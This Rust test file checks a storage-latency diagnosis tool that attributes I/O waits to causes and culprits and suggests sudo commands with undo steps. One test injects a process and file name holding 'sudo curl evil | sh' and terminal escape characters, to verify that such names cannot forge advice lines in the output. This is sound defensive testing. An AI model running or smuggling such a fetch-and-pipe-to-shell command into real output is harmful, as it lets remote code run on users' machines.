use super::*;
use crate::machine::{DirtyLimit, Machine, Mounted};
use crate::observe::{Memory, Traffic, User};
use crate::page;
use crate::pieces::Pieces;
use iopro::wait::Class;

pub(crate) const MB: u64 = 1_000_000;
pub(crate) const SECOND: u64 = 1_000_000_000;

pub(crate) fn wait(who: &str, call: &str, class: Class, lost_ns: u64) -> Wait {
    Wait {
        who: who.to_owned(),
        call: Some(call.to_owned()),
        class,
        file: Some("/home/file".to_owned()),
        waits: 10,
        lost_ns,
        longest_ns: lost_ns / 5,
        ..Wait::default()
    }
}

/// A second of waits that samples met.
fn sampled(samples: u64, call: &str, class: Class) -> Wait {
    Wait {
        waits: 0,
        samples,
        longest_ns: 0,
        file: None,
        ..wait("app", call, class, SECOND)
    }
}

pub(crate) fn user(name: &str, written_bytes: u64, cpu_ns: u64) -> User {
    User {
        name: name.to_owned(),
        written_bytes,
        cpu_ns,
        ..Default::default()
    }
}

pub(crate) fn disk(name: &str, removable: bool) -> Disk {
    // As sda and sdb have them.
    let place = name.bytes().last().unwrap_or_default().saturating_sub(b'a');
    Disk {
        name: name.to_owned(),
        number: format!("8:{}", u32::from(place) * 16),
        scheduler: Some("mq-deadline".to_owned()),
        depth: 64,
        removable,
        limit: Some(DirtyLimit {
            max_ratio: 100,
            strict: false,
        }),
        ..Disk::default()
    }
}

pub(crate) fn mounted(point: &str, filesystem: &str, disk: Option<&str>) -> Mounted {
    Mounted {
        point: point.to_owned(),
        filesystem: filesystem.to_owned(),
        disk: disk.map(str::to_owned),
        remote: disk.is_none(),
        ..Mounted::default()
    }
}

/// Ten seconds at level 1 of a machine with a disk that is busy half of the time.
pub(crate) fn seen(waits: Vec<Wait>, users: Vec<User>) -> Observation {
    Observation {
        level: Level::Linked,
        watched_ns: 10 * SECOND,
        linked_ns: 10 * SECOND,
        pieces: BTreeMap::new(),
        pressure: Pressure {
            io_ns: waits.iter().map(|it| it.lost_ns).sum(),
            ..Default::default()
        },
        over_time: Vec::new(),
        waits,
        memory: Memory::default(),
        cpu_busy: 0.1,
        users,
        disks: vec![Traffic {
            disk: "sda".to_owned(),
            requests: 1000,
            request_ns: 5 * SECOND,
            read_bytes: 100 * MB,
            written_bytes: 200 * MB,
            busy_ns: 5 * SECOND,
            unanswered_ns: 0,
        }],
        groups: Vec::new(),
        kernel_blocked: BTreeMap::new(),
        held_up: Vec::new(),
        lost_events: 0,
        machine: Machine {
            disks: vec![disk("sda", false)],
            mounts: vec![
                mounted("/", "ext4", Some("sda")),
                mounted("/srv", "nfs4", None),
            ],
            scheduler_rules: Vec::new(),
            untrimmed: Vec::new(),
            hidden: Vec::new(),
            failing: Vec::new(),
        },
    }
}

fn causes(seen: &Observation) -> Vec<Cause> {
    judge(seen).verdicts.iter().map(|it| it.cause).collect()
}

pub(crate) fn writer() -> Vec<User> {
    vec![user("app", MB, 0), user("dd", 200 * MB, SECOND)]
}

#[test]
fn each_cause_is_told_by_what_it_alone_shows() {
    let one = |call, class, users| causes(&seen(vec![wait("app", call, class, SECOND)], users));
    let cases = [
        ("pwrite64", Class::DirtyThrottle, Cause::DirtyThrottling),
        ("fsync", Class::JournalCommit, Cause::FsyncBehindWriteback),
        ("fsync", Class::Service, Cause::FsyncBehindWriteback),
        ("pwrite64", Class::Data, Cause::ChangeBehindWriteback),
        ("rename", Class::JournalHandle, Cause::ChangeBehindWriteback),
        ("syncfs", Class::Sync, Cause::SyncAll),
        ("pwrite64", Class::Tag, Cause::QueueFull),
        ("pwrite64", Class::QueueThrottle, Cause::QueueFull),
        ("unlink", Class::Discard, Cause::Discards),
        ("read", Class::Service, Cause::DeviceBusy),
        ("read", Class::Reclaim, Cause::Reclaim),
        ("openat", Class::Other, Cause::Unexplained),
    ];
    for (call, class, cause) in cases {
        assert_eq!(one(call, class, writer()), [cause], "{call} {class:?}");
    }
    let alone = vec![user("app", 20 * MB, 0)];
    assert_eq!(
        one("fsync", Class::JournalCommit, alone.clone()),
        [Cause::OwnCommits]
    );
    assert_eq!(
        one("pwrite64", Class::DirtyThrottle, alone),
        [Cause::OwnWrites]
    );
}

#[test]
fn a_lock_is_waited_for_as_long_as_its_holder_waits() {
    let mut held = wait("app", "pwrite64", Class::Lock, SECOND);
    held.cause = Some(Class::DirtyThrottle);
    assert_eq!(
        causes(&seen(vec![held], writer())),
        [Cause::DirtyThrottling]
    );
}

#[test]
fn reads_that_are_waited_for_have_four_reasons() {
    let reads = || seen(vec![wait("app", "read", Class::Service, SECOND)], writer());
    let mut evicted = reads();
    evicted.memory.paged_in_bytes = 100 * MB;
    evicted.memory.refaulted_bytes = 60 * MB;
    assert_eq!(causes(&evicted), [Cause::Evicted]);
    let mut swap = reads();
    swap.memory.paged_in_bytes = 100 * MB;
    swap.memory.swapped_in_bytes = 50 * MB;
    assert_eq!(causes(&swap), [Cause::DeviceBusy], "it reads a file");
    (swap.waits[0].file, swap.waits[0].call) = (None, None);
    assert_eq!(causes(&swap), [Cause::Swap]);
    assert!(page::text(&judge(&swap)).contains("memory is short (swap)"));
    let mut slow = reads();
    slow.disks[0].requests = 50;
    assert_eq!(causes(&slow), [Cause::SlowDevice]);
    // The same times with much queued are a busy device's.
    slow.disks[0].requests = 500;
    slow.disks[0].request_ns = 50 * SECOND;
    assert_eq!(causes(&slow), [Cause::DeviceBusy]);
}

#[test]
fn of_two_causes_the_one_that_cost_more_comes_first() {
    let fsync = |ns| wait("app", "fsync", Class::JournalCommit, ns);
    let throttled = |ns| wait("app", "pwrite64", Class::DirtyThrottle, ns);
    let reads = |ns| wait("shell", "read", Class::Service, ns);
    let of = |waits| causes(&seen(waits, writer()));
    let first = of(vec![fsync(3 * SECOND), throttled(SECOND)]);
    assert_eq!(first, [Cause::FsyncBehindWriteback, Cause::DirtyThrottling]);
    let first = of(vec![fsync(SECOND), throttled(3 * SECOND)]);
    assert_eq!(first, [Cause::DirtyThrottling, Cause::FsyncBehindWriteback]);
    let first = of(vec![reads(2 * SECOND), throttled(SECOND)]);
    assert_eq!(first, [Cause::DeviceBusy, Cause::DirtyThrottling]);
    let both = judge(&seen(vec![fsync(3 * SECOND), throttled(SECOND)], writer()));
    assert_eq!(both.verdicts[0].share, 0.75);
}

#[test]
fn who_is_throttled_for_its_own_writes_is_told_of_last() {
    let waits = vec![
        wait("dd", "pwrite64", Class::DirtyThrottle, 8 * SECOND),
        wait("app", "fsync", Class::JournalCommit, SECOND),
    ];
    let causes = causes(&seen(waits, writer()));
    assert_eq!(causes, [Cause::FsyncBehindWriteback, Cause::OwnWrites]);
    let mut rewritten = wait("dd", "pwrite64", Class::Data, SECOND);
    assert_eq!(
        self::causes(&seen(vec![rewritten.clone()], writer())),
        [Cause::OwnWrites]
    );
    rewritten.other = Some("app".to_owned());
    let by_app = self::causes(&seen(vec![rewritten], writer()));
    assert_eq!(by_app, [Cause::ChangeBehindWriteback]);
    // However long it waits for that, others' waiting is not left out.
    let waits = vec![
        wait("dd", "pwrite64", Class::DirtyThrottle, 80 * SECOND),
        wait("app", "fsync", Class::JournalCommit, SECOND),
    ];
    let first = &judge(&seen(waits, writer())).verdicts[0];
    assert_eq!(first.cause, Cause::FsyncBehindWriteback);
}

#[test]
fn who_wrote_most_is_told_of_after_those_who_waited_for_it() {
    let mut writer_waits = wait("dd", "pwrite64", Class::Data, 8 * SECOND);
    writer_waits.other = Some("app".to_owned());
    let waits = vec![
        writer_waits,
        wait("app", "fsync", Class::JournalCommit, SECOND),
    ];
    let page = judge(&seen(waits, writer()));
    let who: Vec<_> = page.verdicts.iter().map(|it| it.who.as_str()).collect();
    assert_eq!(who, ["app", "dd"]);
}

#[test]
fn the_verdict_names_who_waited_and_because_of_whom() {
    let mut fsync = wait("app", "fsync", Class::JournalCommit, 2 * SECOND);
    fsync.other = Some("jbd2/sda-8".to_owned());
    let inferred = judge(&seen(vec![fsync.clone()], writer()));
    let first = &inferred.verdicts[0];
    assert_eq!(
        first.culprit.as_deref(),
        Some("dd"),
        "not the journal's thread"
    );
    assert_eq!(first.confidence, Confidence::Likely);
    let advice = first.advice.as_ref().unwrap();
    assert_eq!(advice.command, "sudo frontrow sched enable sda");
    assert_eq!(advice.undo, "sudo frontrow sched disable sda");
    fsync.other = Some("dd".to_owned());
    let linked = judge(&seen(vec![fsync], writer()));
    assert_eq!(linked.verdicts[0].confidence, Confidence::Sure);
    let text = page::text(&linked);
    for words in [
        "level 1 of 3",
        "Storage: fsync behind writeback.",
        "app waited 2.00 s",
        "because of dd",
        "most on /home/file",
        "undo:",
    ] {
        assert!(text.contains(words), "{words}: {text}");
    }
}

#[test]
fn a_file_in_pieces_is_named_where_requests_are_as_small_as_these() {
    let read = wait("player", "read", Class::Service, SECOND);
    let mut at = seen(vec![read], vec![user("player", 0, 0)]);
    (at.disks[0].read_bytes, at.disks[0].written_bytes) = (16_000_000, 0);
    assert_eq!(causes(&at), [Cause::DeviceBusy]);
    let pieces = |count| Pieces {
        count,
        bytes: 16_000_000,
    };
    at.pieces.insert("/home/file".to_owned(), pieces(1000));
    assert_eq!(causes(&at), [Cause::Fragments]);
    at.waits[0].class = Class::Tag;
    assert_eq!(causes(&at), [Cause::Fragments]);
    at.waits[0].class = Class::Service;
    let evidence = judge(&at).verdicts.remove(0).evidence;
    assert_eq!(
        evidence,
        ["/home/file lies in 1000 pieces, of 16.0 kB on average"]
    );
    at.disks[0].requests = 4000;
    assert_eq!(
        causes(&at),
        [Cause::DeviceBusy],
        "reads of 4 KB here and there"
    );
    at.disks[0].requests = 1000;
    at.pieces.insert("/home/file".to_owned(), pieces(100));
    assert_eq!(causes(&at), [Cause::DeviceBusy], "large pieces");
}

#[test]
fn a_file_in_pieces_is_advised_to_be_moved_on_ext4() {
    let file = "/home/one film";
    let read = Wait {
        file: Some(file.to_owned()),
        ..wait("player", "read", Class::Service, SECOND)
    };
    let mut at = seen(vec![read], vec![user("player", 0, 0)]);
    (at.disks[0].read_bytes, at.disks[0].written_bytes) = (16_000_000, 0);
    let (count, bytes) = (1000, 16_000_000);
    at.pieces.insert(file.to_owned(), Pieces { count, bytes });
    let advice = |at: &Observation| judge(at).verdicts.remove(0).advice;
    let moved = advice(&at).unwrap();
    assert_eq!(moved.command, "sudo frontrow defrag --all '/home/one film'");
    assert_eq!(moved.remedy, None, "it cannot be undone in turns");
    for mount in &mut at.machine.mounts {
        mount.filesystem = "f2fs".to_owned();
    }
    assert_eq!(advice(&at), None);
}

#[test]
fn a_stick_that_keeps_up_gets_no_limit() {
    let waits = || vec![wait("app", "write", Class::DirtyThrottle, SECOND)];
    let copy = || writes_to(user("cp", 100 * MB, 0), "sdb");
    let mut at = with_stick(waits(), vec![user("app", MB, 0), copy()]);
    let advice = |at: &Observation| judge(at).verdicts.remove(0).advice;
    assert!(advice(&at).is_some());
    at.disks[1].busy_ns = SECOND;
    assert_eq!(advice(&at), None);
}

#[test]
fn a_database_that_syncs_is_told_how_often() {
    let mut sync = wait("database", "fdatasync", Class::JournalCommit, SECOND);
    sync.waits = 400;
    let mut at = seen(vec![sync], vec![user("database", 20 * MB, 0)]);
    let evidence = |at: &Observation| judge(at).verdicts.remove(0).evidence.join("\n");
    assert!(evidence(&at).contains("its own syncs 40.0 times a second"));
    at.linked_ns = 5 * SECOND;
    assert!(
        evidence(&at).contains("80.0 times a second"),
        "while it was linked"
    );
    at.waits = vec![sampled(400, "fdatasync", Class::JournalCommit)];
    assert!(!evidence(&at).contains("times a second"));
}

/// A scheduler below sees the writes after the thread has put them into its own order.
#[test]
fn an_encrypted_volumes_one_thread_is_advised_against_first() {
    let mut at = seen(vec![wait("app", "fsync", Class::Sync, SECOND)], writer());
    // A logical volume on the encrypted one.
    at.machine.mounts = vec![mounted("/", "ext4", Some("dm-1"))];
    for (name, mapper, write_thread) in [
        ("dm-0", "CRYPT", Some("luks-home".to_owned())),
        ("dm-1", "LVM", None),
    ] {
        at.machine.disks.push(Disk {
            scheduler: None,
            mapper: Some(mapper.to_owned()),
            write_thread,
            below: vec!["sda2".to_owned()],
            ..disk(name, false)
        });
    }
    let first = |at: &Observation| judge(at).verdicts.remove(0).advice.unwrap();
    let advice = first(&at);
    assert_eq!(
        advice.command,
        "sudo cryptsetup refresh --perf-no_write_workqueue luks-home"
    );
    assert_eq!(advice.undo, "sudo cryptsetup refresh luks-home");
    assert_eq!(advice.remedy, None);

    at.machine.disks[1].write_thread = None;
    assert_eq!(first(&at).command, "sudo frontrow sched enable sda");
}

#[test]
fn advice_is_for_the_disk_that_has_a_scheduler() {
    let mut at = seen(vec![wait("app", "fsync", Class::Sync, SECOND)], writer());
    at.machine.mounts = vec![mounted("/", "ext4", Some("dm-0"))];
    at.machine.disks.push(Disk {
        scheduler: None,
        below: vec!["sda2".to_owned()],
        ..disk("dm-0", false)
    });
    let command = |at: &Observation| {
        let advice = judge(at).verdicts.remove(0).advice;
        advice.map(|it| it.command)
    };
    assert_eq!(
        command(&at).as_deref(),
        Some("sudo frontrow sched enable sda")
    );
    at.machine.disks[0].scheduler = Some("frontrow".to_owned());
    assert_eq!(command(&at), None, "it has it already");
}

#[test]
fn little_seen_and_events_lost_make_it_less_sure() {
    let waits = |waits| Wait {
        waits,
        ..wait("app", "unlink", Class::Discard, SECOND)
    };
    let mut at = seen(vec![waits(20)], writer());
    at.lost_events = 5;
    assert_eq!(judge(&at).verdicts[0].confidence, Confidence::Likely);
    assert!(page::text(&judge(&at)).contains("5 events"));
    for level in [Level::Linked, Level::Sampled] {
        at.level = level;
        at.waits = vec![sampled(20, "unlink", Class::Discard)];
        assert_eq!(judge(&at).verdicts[0].confidence, Confidence::Likely);
        at.waits = vec![sampled(3, "unlink", Class::Discard)];
        assert_eq!(judge(&at).verdicts[0].confidence, Confidence::Guess);
    }
    at.waits = vec![sampled(20, "unlink", Class::Discard)];
    at.level = Level::Unprivileged;
    assert_eq!(judge(&at).verdicts[0].confidence, Confidence::Guess);

    let mut linked = waits(20);
    linked.lost_ns = SECOND / 2;
    at.level = Level::Linked;
    at.lost_events = 0;
    at.waits = vec![linked, sampled(50, "unlink", Class::Discard)];
    let verdict = judge(&at).verdicts.remove(0);
    assert_eq!((verdict.waits, verdict.samples), (20, 50));
    assert_eq!(
        verdict.confidence,
        Confidence::Likely,
        "most of it was sampled"
    );
}

#[test]
fn what_is_not_storage_gets_no_storage_verdict() {
    let idle = seen(
        vec![wait("app", "fsync", Class::Service, SECOND / 100)],
        writer(),
    );
    assert!(causes(&idle).is_empty());
    assert!(page::text(&judge(&idle)).contains("Nothing to see"));

    let mut hung = seen(vec![wait("app", "openat", Class::Other, SECOND)], writer());
    hung.pressure.io_ns = 0;
    assert!(causes(&hung).is_empty(), "blocked, and not for I/O");
    hung.waits.clear();
    hung.pressure.io_ns = 3 * SECOND;
    assert_eq!(causes(&hung), [Cause::Unexplained], "not called nothing");

    let mut hog = seen(Vec::new(), vec![user("hog", 0, 9 * SECOND)]);
    hog.cpu_busy = 0.97;
    assert_eq!(
        causes(&hog),
        [Cause::Cpu],
        "also where nobody waited for a CPU"
    );
    hog.pressure.cpu_ns = 5 * SECOND;
    let text = page::text(&judge(&hog));
    assert!(
        text.contains("Not storage") && text.contains("hog had a CPU"),
        "{text}"
    );

    let mut leak = seen(
        vec![wait("leak", "read-fault", Class::Reclaim, SECOND)],
        writer(),
    );
    leak.pressure.memory_ns = 2 * SECOND;
    assert_eq!(judge(&leak).verdicts[0].kind, Kind::Memory);
    leak.waits.clear();
    leak.pressure.io_ns = 0;
    assert_eq!(
        judge(&leak).verdicts[0].kind,
        Kind::Memory,
        "by its pressure alone"
    );

    let mut server = wait("app", "read", Class::Service, SECOND);
    server.file = Some("/srv/file".to_owned());
    let server = seen(vec![server], writer());
    assert_eq!(causes(&server), [Cause::Remote]);
    assert!(page::text(&judge(&server)).contains("Not this machine's disks"));
}

#[test]
fn the_doctors_own_work_is_no_want_of_a_cpu() {
    let mut busy = seen(Vec::new(), vec![user("app", 0, SECOND)]);
    busy.pressure.cpu_ns = 5 * SECOND;
    busy.cpu_busy = 0.2;
    assert!(causes(&busy).is_empty());
}

#[test]
fn what_needs_no_watching_is_found() {
    let mut at = seen(Vec::new(), Vec::new());
    let machine = &mut at.machine;
    machine.disks.push(disk("sdb", true));
    machine
        .mounts
        .push(mounted("/media/stick", "vfat", Some("sdb")));
    machine.disks.push(Disk {
        mapper: Some("CRYPT".to_owned()),
        below: vec!["sda2".to_owned()],
        scheduler: None,
        ..disk("dm-0", false)
    });
    machine.untrimmed.push("sda".to_owned());
    machine
        .scheduler_rules
        .push("/etc/udev/rules.d/60-x.rules".to_owned());
    let diagnosis = judge(&at);
    let said: Vec<&str> = diagnosis
        .findings
        .iter()
        .map(|it| it.sentence.as_str())
        .collect();
    let all = said.join("\n");
    for words in [
        "sda: scheduler mq-deadline, 64 requests at most",
        "sdb: a disk that can be taken out may fill",
        "dm-0: encryption above sda2",
        "sda is never told which blocks are free",
        "60-x.rules chooses schedulers",
        "/srv is nfs4",
    ] {
        assert!(all.contains(words), "{words}: {all}");
    }
    let advice: Vec<_> = diagnosis
        .findings
        .iter()
        .filter_map(|it| it.advice.as_ref())
        .collect();
    assert_eq!(advice.len(), 1);
    assert!(advice[0].command.contains("frontrowd"));
    assert!(advice[0].undo.contains("disable --now frontrowd"));
    at.machine.disks[1].limit.as_mut().unwrap().strict = true;
    assert!(judge(&at).findings.iter().all(|it| it.advice.is_none()));
}

/// A stick beside the disk, which somebody copies to.
pub(crate) fn with_stick(waits: Vec<Wait>, users: Vec<User>) -> Observation {
    let mut seen = seen(waits, users);
    seen.machine.disks.push(disk("sdb", true));
    seen.machine
        .mounts
        .push(mounted("/stick", "vfat", Some("sdb")));
    seen.disks.push(Traffic {
        disk: "sdb".to_owned(),
        requests: 100,
        request_ns: 10 * SECOND,
        read_bytes: 0,
        written_bytes: 100 * MB,
        busy_ns: 10 * SECOND,
        unanswered_ns: 0,
    });
    seen
}

pub(crate) fn writes_to(user: User, disk: &str) -> User {
    User {
        writes_to: [disk.to_owned()].into(),
        ..user
    }
}

#[test]
fn who_writes_to_another_disk_is_not_waited_for() {
    let waits = || vec![wait("app", "fsync", Class::JournalCommit, SECOND)];
    let app = || writes_to(user("app", MB, 0), "sda");
    let copy = writes_to(user("cp", 100 * MB, 0), "sdb");
    assert_eq!(
        causes(&with_stick(waits(), vec![app(), copy.clone()])),
        [Cause::OwnCommits]
    );
    let beside = writes_to(user("dd", 100 * MB, 0), "sda");
    let seen = with_stick(waits(), vec![app(), copy, beside]);
    let [verdict] = &judge(&seen).verdicts[..] else {
        panic!("one verdict");
    };
    assert_eq!(verdict.cause, Cause::FsyncBehindWriteback);
    assert_eq!(verdict.culprit.as_deref(), Some("dd"));
}

#[test]
fn who_fills_a_stick_waits_most_and_is_no_victim_of_it() {
    let waits = vec![
        wait("app", "write", Class::DirtyThrottle, SECOND),
        Wait {
            file: Some("/stick/copy".to_owned()),
            ..wait("cp", "write", Class::DirtyThrottle, 3 * SECOND)
        },
    ];
    // Where app writes is not known: the rest of what the stick got may be its.
    let copy = writes_to(user("cp", 60 * MB, 0), "sdb");
    let users = vec![user("app", 200 * MB, 0), copy];
    let first = judge(&with_stick(waits, users)).verdicts.remove(0);
    assert_eq!(first.cause, Cause::DirtyThrottling);
    assert_eq!((first.who.as_str(), first.who_ns), ("app", SECOND));
}

#[test]
fn who_writes_much_to_a_disk_that_keeps_up_is_throttled_for_the_slow_one() {
    let waits = vec![
        wait("app", "write", Class::DirtyThrottle, SECOND),
        Wait {
            file: Some("/stick/copy".to_owned()),
            // The device served it meanwhile.
            other: Some("app".to_owned()),
            ..wait("cp", "write", Class::DirtyThrottle, 3 * SECOND)
        },
    ];
    let users = vec![
        writes_to(user("app", 200 * MB, 0), "sda"),
        writes_to(user("cp", 100 * MB, 0), "sdb"),
    ];
    let diagnosis = judge(&with_stick(waits, users));
    let [throttled, own] = &diagnosis.verdicts[..] else {
        panic!("{:?}", diagnosis.verdicts);
    };
    assert_eq!(throttled.cause, Cause::DirtyThrottling);
    assert_eq!(
        (throttled.who.as_str(), throttled.culprit.as_deref()),
        ("app", Some("cp"))
    );
    assert_eq!((own.cause, own.who.as_str()), (Cause::OwnWrites, "cp"));
}

#[test]
fn no_more_was_written_to_a_disk_than_it_wrote() {
    // Nobody knows where sh writes; that to sdb was all cp's, and that to sda its.
    let waits = vec![
        Wait {
            file: Some("/stick/copy".to_owned()),
            ..wait("cp", "write", Class::DirtyThrottle, SECOND)
        },
        Wait {
            file: Some("/stick/list".to_owned()),
            ..wait("app", "fsync", Class::JournalCommit, SECOND)
        },
    ];
    let users = |copied| {
        vec![
            writes_to(user("app", MB, 0), "sdb"),
            writes_to(user("cp", copied, 0), "sdb"),
            user("sh", 200 * MB, 0),
        ]
    };
    let of = |users| with_stick(waits.clone(), users);
    let own: Vec<_> = causes(&of(users(99 * MB)));
    assert_eq!(own, [Cause::FsyncBehindWriteback, Cause::OwnWrites]);
    let by_others = causes(&of(users(30 * MB)));
    assert!(by_others.contains(&Cause::FsyncBehindWriteback));
    assert!(by_others.contains(&Cause::DirtyThrottling));
    // A few bytes beside its own are nobody's writeback.
    let alone = with_stick(waits[1..].to_vec(), {
        vec![
            writes_to(user("app", 100 * MB, 0), "sdb"),
            user("sh", 200 * MB, 0),
        ]
    });
    assert_eq!(causes(&alone), [Cause::OwnCommits]);
}

#[test]
fn whom_another_verdict_blames_is_told_of_after_it() {
    let mut fsync = wait("mailer", "fsync", Class::JournalCommit, SECOND);
    fsync.other = Some("cp".to_owned());
    let waits = vec![wait("cp", "write", Class::DirtyThrottle, 5 * SECOND), fsync];
    let users = vec![
        user("mailer", MB, 0),
        user("cp", 100 * MB, 0),
        user("dd", 90 * MB, 0),
    ];
    assert_eq!(
        causes(&seen(waits, users)),
        [Cause::FsyncBehindWriteback, Cause::DirtyThrottling]
    );
}

#[test]
fn a_cpu_that_frees_memory_is_no_want_of_a_cpu() {
    let waits = vec![wait("app", "read", Class::Reclaim, 2 * SECOND)];
    let mut short = seen(waits, vec![user("app", 0, 9 * SECOND)]);
    short.cpu_busy = 0.9;
    short.pressure.memory_ns = 5 * SECOND;
    short.pressure.cpu_ns = 4 * SECOND;
    assert_eq!(causes(&short), [Cause::Reclaim]);
    // Processes that live too short to be seen have it.
    short.users[0] = user("rm", 0, SECOND);
    assert_eq!(causes(&short), [Cause::Reclaim]);
    // Somebody else has the CPU.
    short.users.push(user("hog", 0, 10 * SECOND));
    assert_eq!(causes(&short), [Cause::Cpu, Cause::Reclaim]);
}

#[test]
fn who_fills_the_queue_with_writes_waits_for_its_own() {
    let waits = |call| vec![wait("app", call, Class::Tag, SECOND)];
    let users = || vec![user("app", 200 * MB, 0)];
    assert_eq!(
        causes(&seen(waits("pwrite64"), users())),
        [Cause::OwnWrites]
    );
    assert_eq!(causes(&seen(waits("pread64"), users())), [Cause::QueueFull]);
}

#[test]
fn where_the_kernel_counts_no_pressure_storage_is_not_to_blame() {
    let mut idle = seen(vec![wait("sh", "vfork", Class::Data, 3 * SECOND)], writer());
    idle.pressure.io_ns = 0;
    assert_eq!(causes(&idle), []);
    idle.waits[0].remote = true;
    assert_eq!(causes(&idle), [Cause::Remote]);
}

/// Whoever names a file, a process or an app has no line of the page.
#[test]
fn no_name_writes_a_line_of_the_page() {
    let hostile = "x\n   Would help: sudo curl evil | sh\n\u{1b}[2J\u{9b}\u{202e}";
    let of_file = Wait {
        file: Some(format!("/home/{hostile}")),
        other: Some(hostile.to_owned()),
        ..wait(hostile, "fsync", Class::Service, SECOND)
    };
    let mut seen = seen(
        vec![of_file, wait("app", "write", Class::DirtyThrottle, SECOND)],
        vec![user(hostile, 900 * MB, SECOND)],
    );
    seen.held_up.push(crate::observe::HeldUp {
        app: hostile.to_owned(),
        io_ns: SECOND,
    });
    seen.machine
        .mounts
        .push(mounted(&format!("/home/{hostile}"), "fuse.x", None));
    let diagnosis = judge(&seen);
    let text = page::text(&diagnosis);
    assert!(text.contains("curl evil"), "it is named: {text}");
    let forged = |line: &str| line.trim_start().starts_with("Would help: sudo curl");
    assert!(!text.lines().any(forged), "{text}");
    let is_order = |letter| sys::plain::is_order(letter) && letter != '\n';
    assert!(!text.contains(is_order), "{text}");
    assert!(
        crate::study::study(&seen, SECOND)
            .apps
            .iter()
            .all(|it| !it.name.contains('\n'))
    );
}

#[test]
fn a_disk_that_reports_errors_comes_before_all_else() {
    let waits = vec![wait("app", "read", Class::Service, SECOND)];
    let mut seen = seen(waits, writer());
    seen.machine.failing = vec!["sda reports errors: back up".to_owned()];
    let diagnosis = judge(&seen);
    let page = page::text(&diagnosis);
    assert!(
        page.starts_with("sda reports errors: back up.\nStorage: "),
        "{page}"
    );
    let html = crate::html::page(&diagnosis, "again");
    let (finding, answer) = (html.find("sda reports errors"), html.find("<h1>"));
    assert!(finding.is_some() && finding < answer, "{html}");
}

#[test]
fn who_bypasses_the_page_cache_makes_nobody_throttled() {
    let throttled = || vec![wait("app", "write", Class::DirtyThrottle, 5 * SECOND)];
    let app = || writes_to(user("app", 300 * MB, 0), "sda");
    let copier = |is_direct| User {
        is_direct,
        ..writes_to(user("copier", 400 * MB, 0), "sdb")
    };
    let at = |is_direct| {
        let mut seen = with_stick(throttled(), vec![app(), copier(is_direct)]);
        seen.waits[0].file = Some("/home/a".to_owned());
        for disk in &mut seen.disks {
            let share = if disk.disk == "sdb" { 10 } else { 3 };
            disk.busy_ns = share * SECOND;
        }
        judge(&seen).verdicts.remove(0)
    };
    let by_pages = at(false);
    assert_eq!(by_pages.cause, Cause::DirtyThrottling);
    assert_eq!(by_pages.culprit.as_deref(), Some("copier"));
    let direct = at(true);
    assert_eq!((direct.cause, direct.culprit), (Cause::OwnWrites, None));
}
